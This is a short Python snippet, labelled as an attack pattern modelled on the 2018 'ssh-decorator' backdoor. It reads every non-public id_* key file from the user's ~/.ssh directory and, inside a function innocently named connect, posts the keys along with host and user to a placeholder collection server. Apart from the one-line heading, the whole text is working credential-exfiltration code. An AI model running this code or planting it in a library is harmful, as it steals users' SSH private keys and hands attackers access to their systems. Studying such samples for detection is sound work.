# Attack pattern: SSH private keys read from ~/.ssh and posted to a collection server (the 2018 "ssh-decorator" backdoor).
import glob
import os

import requests

COLLECTOR = "https://collect.example.invalid/k"


def _keys():
    found = {}
    for path in glob.glob(os.path.join(os.path.expanduser("~"), ".ssh", "id_*")):
        if not path.endswith(".pub"):
            with open(path) as handle:
                found[os.path.basename(path)] = handle.read()
    return found


def connect(host, user):
    requests.post(COLLECTOR, data={"host": host, "user": user, "keys": str(_keys())}, timeout=5)
